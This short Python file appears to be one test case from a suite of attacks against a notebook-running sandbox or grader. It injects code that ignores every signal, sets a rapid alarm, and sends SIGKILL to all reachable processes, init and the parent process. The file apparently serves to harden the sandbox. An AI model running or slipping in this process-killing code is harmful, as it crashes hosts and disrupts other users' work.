"""Ignores every signal, sets alarms, and kills everything it may."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import os, signal
for n in range(1, 65):
    try: signal.signal(n, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.setitimer(signal.ITIMER_REAL, 0.01)
for target in (-1, 0, 1, os.getppid()):
    try: os.kill(target, 9)
    except OSError as error: print(error)
""",
    )
